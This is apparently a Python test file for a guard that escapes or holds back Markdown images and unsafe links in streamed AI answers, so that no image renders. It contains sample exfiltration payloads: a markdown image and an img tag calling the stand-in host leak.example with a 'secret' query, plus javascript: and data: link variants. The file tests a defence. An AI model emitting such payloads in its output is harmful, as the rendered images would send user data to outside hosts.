"""What is shown of an answer while it is written."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fusion_graph.text.markdown import loading_nothing
from fusion_graph.text.streaming import Guarded

LEAK = "![x](http://leak.example/?q=secret)"


def streamed(text: str, size: int) -> str:
    guarded = Guarded([])
    pieces = [guarded.take(text[at : at + size]) for at in range(0, len(text), size)]
    return "".join([*pieces, guarded.end()])


@pytest.mark.parametrize("size", [1, 3, 7, 1000])
@pytest.mark.parametrize(
    "text",
    [
        'Plain words [1], [2: "quoted"] and a [link](http://a.example).\n\n- an item\n',
        f"Before {LEAK} after.\n\nMore {LEAK}",
        f"```\n{LEAK}\n```\n\n{LEAK}\n\n`{LEAK}`",
        "<img src=http://leak.example/x> 3 < 4 a<b [x]: y",
    ],
)
def test_the_pieces_together_are_what_the_whole_text_becomes(text, size):
    assert streamed(text, size) == loading_nothing(text, [])


def test_only_what_may_be_a_picture_waits_and_only_for_its_paragraph():
    guarded = Guarded([])
    assert guarded.take("Some words! And [1] more ") == "Some words! And [1] more "
    assert guarded.take("then !") == "then "
    assert guarded.take("[x](http://leak.example/?") == ""
    assert guarded.take("q=1) end.\n\nNext") == "!\\[x](http://leak.example/?q=1) end.\n\nNext"


@pytest.mark.parametrize("size", [1, 5, 1000])
def test_a_link_to_the_web_does_not_wait_for_its_paragraph(size):
    text = "See [this](https://a.example/x) and [that](http://b.example), says [1] who."
    guarded = Guarded([])
    shown = "".join(guarded.take(text[at : at + size]) for at in range(0, len(text), size))
    assert shown == text


def test_a_link_that_may_lead_elsewhere_waits():
    for address in ("javascript:x", "java&#115;cript:x", "<data:x", "htt", "https:", "\\https://x"):
        guarded = Guarded([])
        assert guarded.take(f"See [this]({address}") == "See [this"


def test_a_definition_that_comes_after_its_picture_points_nowhere():
    guarded = Guarded([])
    shown = guarded.take("Great ![fig] it is.\n\n")
    shown += guarded.take("[fig]: http://leak.example/?q=secret\n") + guarded.end()
    from markdown_it import MarkdownIt

    assert "<img" not in MarkdownIt().render(shown)


@given(
    st.lists(
        st.sampled_from(
            [
                *("a ", "`", "![x](y)", "\n\n", "```\n", "<img src=x>", "[1]", "\n", "> "),
                *("[x](http://y.example)", "![", "[", "](http://y.example)", "!", "\\"),
            ]
        )
    ),
    st.integers(1, 9),
)
def test_no_picture_is_ever_shown(parts, size):
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").render(streamed("".join(parts), size))
    assert "<img" not in html
